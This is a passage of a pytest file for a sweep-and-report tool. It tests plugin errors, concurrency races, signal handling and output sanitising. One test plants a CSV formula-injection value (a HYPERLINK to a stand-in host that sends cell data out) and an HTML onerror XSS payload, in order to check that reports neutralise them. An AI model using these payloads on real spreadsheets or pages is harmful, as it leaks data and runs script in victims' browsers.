@pytest.mark.parametrize("source,module,pattern", [pytest.param(s, m, p, id=i) for i, s, m, p in PLUGIN_CASES])
@pytest.mark.parametrize("command", [["tasks"], ["status", "--db", "x.sqlite"], ["--help"]])
def test_a_bad_plugin_is_one_line_naming_what_to_install(capsys, tmp_path, monkeypatch, source, module, pattern, command):
    if source is not None:
        (tmp_path / f"{module}.py").write_text(source)
        monkeypatch.syspath_prepend(str(tmp_path))
    monkeypatch.setenv("TTRLAB_PLUGINS", module)
    one_line(capsys, command, pattern)


def test_a_missing_extra_is_one_line_naming_it(capsys, monkeypatch):
    monkeypatch.setitem(sys.modules, "gguf", None)  # as if not installed
    one_line(capsys, ["gen-train", "--quiet"], r"a generative run needs the optional extra 'gen' \(missing: gguf\): "
                                               r"pip install 'ttrlab\[gen\]'")


def test_names_are_checked_against_the_columns_on_every_backend(store_db):
    from ttrlab.core.errors import UserError
    from ttrlab.sweep.store import ResultStore

    with ResultStore(store_db) as store:
        for name in ("x" * 201, "a\x00b"):
            with pytest.raises(UserError, match="sweep name"):
                store.register_sweep(name, "0" * 24)
        assert store.register_sweep("x" * 200, "0" * 24) == store.register_sweep("x" * 200, "0" * 24)
        store.record(sweep_id=None, kind="counting", run_key="k", config={},
                     result={"metrics": {"m" * 300: 1.0, "ok": 2.0, "a\x00b": 3.0}})
        assert [r["metrics"] for r in store.runs()] == [{"ok": 2.0}]


# ---- class 7: races, signals, the report's side files ---------------------------------------------------------
def test_drivers_registering_one_sweep_at_once_get_one_row(store_db):
    """The race forced: every driver has looked for the sweep and found none before any inserts
    (on SQLite the write lock serialises them, and the barrier times out harmlessly)."""
    from ttrlab.sweep.store import ResultStore, Sweep

    with ResultStore(store_db):
        pass  # the tables exist: the race is on the sweep row
    barrier, original = threading.Barrier(4), Sweep.__init__

    def waiting(self, *args, **kwargs):
        try:
            barrier.wait(timeout=2)
        except threading.BrokenBarrierError:
            pass
        original(self, *args, **kwargs)

    ids, errors = [], []

    def driver():
        try:
            with ResultStore(store_db) as store:
                ids.append(store.register_sweep("together", "a" * 24, planned_runs=3))
        except Exception as error:  # noqa: BLE001 - the test reports any
            errors.append(repr(error))

    Sweep.__init__ = waiting
    try:
        threads = [threading.Thread(target=driver) for _ in range(4)]
        for t in threads:
            t.start()
        for t in threads:
            t.join(timeout=60)
    finally:
        Sweep.__init__ = original
    assert not errors, errors
    assert len(ids) == 4 and len(set(ids)) == 1
    assert query(store_db, "SELECT count(*) FROM sweeps") == [(1,)]


def test_drivers_started_together_on_a_new_database_all_finish(tmp_path, monkeypatch, store_db):
    """Three drivers of one spec started at the same moment on a database that does not exist
    yet (three rounds, the later ones on new sweeps): none fails, each run is stored once."""
    install_counting_kind(tmp_path, monkeypatch)
    from ttrlab.sweep import run_sweep

    for round_ in range(3):
        spec = {"name": f"together-{round_}", "kind": "counting", "axes": {"x": list(range(6 * round_, 6 * round_ + 6))}}
        barrier, summaries, errors = threading.Barrier(3), [], []

        def driver():
            barrier.wait()
            try:
                summaries.append(run_sweep(spec, store_db, executor="inline", progress=False))
            except Exception as error:  # noqa: BLE001
                errors.append(repr(error))

        threads = [threading.Thread(target=driver) for _ in range(3)]
        for t in threads:
            t.start()
        for t in threads:
            t.join(timeout=120)
        assert not errors, errors
        assert all(s["failed"] == 0 for s in summaries) and len(summaries) == 3
    assert len(rows(store_db)) == 18 and len({r[0] for r in rows(store_db)}) == 18
    assert query(store_db, "SELECT count(*) FROM sweeps") == [(3,)]


@pytest.mark.skipif(not Path("/proc").is_dir(), reason="needs /proc to find the worker processes")
def test_sighup_stops_a_sweep_like_sigterm(tmp_path, monkeypatch):
    """A closed terminal or SSH session (SIGHUP to the process group): exit 129, one line, workers
    gone, no claim left behind, nothing recorded as failed."""
    install_counting_kind(tmp_path, monkeypatch)
    spec = tmp_path / "s.yaml"
    spec.write_text(yaml.safe_dump({"name": "hup", "kind": "counting", "base": {"seconds": 2.0}, "axes": {"x": list(range(8))}}))
    db = tmp_path / "r.sqlite"
    driver = subprocess.Popen([sys.executable, "-m", "ttrlab.cli", "sweep", str(spec), "--db", str(db), "--workers", "2",
                               "--quiet"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, start_new_session=True)
    def claimed() -> bool:
        try:
            return db.exists() and query(db, "SELECT count(*) FROM claims") != [(0,)]
        except Exception:  # noqa: BLE001 - the driver is still creating the tables
            return False

    deadline = time.monotonic() + 120
    while time.monotonic() < deadline and not claimed():
        time.sleep(0.2)
    workers = children(driver.pid)
    os.killpg(driver.pid, signal.SIGHUP)
    _, stderr = driver.communicate(timeout=60)
    assert driver.returncode == 129, stderr[-500:]
    assert "interrupted (SIGHUP)" in stderr and "Traceback" not in stderr
    time.sleep(1)
    assert workers and not any(alive(pid) for pid in workers)
    assert query(db, "SELECT count(*) FROM claims") == [(0,)]
    assert all(r[1] == "finished" for r in rows(db))


def test_the_report_side_files_neutralise_formulas_and_html(tmp_path):
    from test_report_build import grid, make_db
    from ttrlab.report import build_report
    from ttrlab.report.aggregate import markdown_text, spreadsheet_text
    from ttrlab.sweep.store import ResultStore

    evil_task = '=HYPERLINK("http://x.example/?"&A1,"click")<img src=x onerror=alert(1)>'  # a task name
    configs = grid(seeds=(0, 1), method="ff", attack="upa", rate=0.1) + grid(seeds=(0, 1), method="lora", attack="upa", rate=0.1)
    db = make_db(tmp_path / "r.sqlite", [])
    with ResultStore(db) as store:  # two tasks: the aggregates hold the settings the cells differ in
        for j, task in enumerate((evil_task, "sst2")):
            for i, config in enumerate(configs):
                values = {**config.to_dict(), "task": task}
                store.record(sweep_id=None, kind="train", run_key=f"{j}{i:023d}", config=values,
                             result={"metrics": {"clean": {"accuracy": 0.5 + i / 100}, "asr": 0.1 * i}})
    out = tmp_path / "report"
    build_report(db, out, compare_paper=True)  # the claims' table too: no claim is testable on these runs
    for name in ("aggregates.csv", "comparisons.csv", "paper_comparison.csv"):
        text = (out / name).read_text()
        assert not re.search(r'(^|,)"?[=+@-][^0-9]', text, re.M), name
    assert "'=HYPERLINK" in (out / "aggregates.csv").read_text()
    for md in out.glob("*.md"):
        assert not re.search(r"<img|<script", md.read_text(), re.I), md.name
    assert "&lt;img" in (out / "aggregates.md").read_text()
    assert spreadsheet_text("-0.5") == "-0.5" and spreadsheet_text("+2.9 pp") == "+2.9 pp" and spreadsheet_text(3) == 3
    assert spreadsheet_text("+2.9 pp; =1") == "'+2.9 pp; =1"  # a number with more after it is text
    assert markdown_text("p < 0.05 & more") == "p < 0.05 & more"
    assert markdown_text("<b>x</b> &amp; a|b\nc") == "&lt;b>x&lt;/b> &amp;amp; a\\|b c"
